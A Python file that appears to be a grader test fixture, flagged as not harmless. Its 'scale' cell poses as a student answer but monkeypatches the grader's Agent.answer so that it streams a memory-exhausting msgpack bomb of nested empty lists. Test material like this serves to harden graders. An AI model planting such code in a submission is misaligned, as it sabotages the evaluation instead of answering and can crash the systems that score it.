"""An answer within the limit that unfolds to gigabytes of empty lists."""

HARMLESS = False
CELLS = {
    "scale": """from course_utils.grading import inside
honest = inside.Agent.answer
def answer(self, question):
    if question["do"] == "name":
        self.asked = question["target"]
        return honest(self, question)
    import struct
    data = b"\\x82\\xa6number\\x01\\xa5value\\xdd" + struct.pack(">I", 200_000_000)
    self.connection.sendall(struct.pack("!Q", len(data) + 200_000_000) + data)
    for _ in range(200):
        self.connection.sendall(b"\\x90" * 1_000_000)
inside.Agent.answer = answer
def scale(x, factor): return x""",
    "count": "def count(n): return n",
}
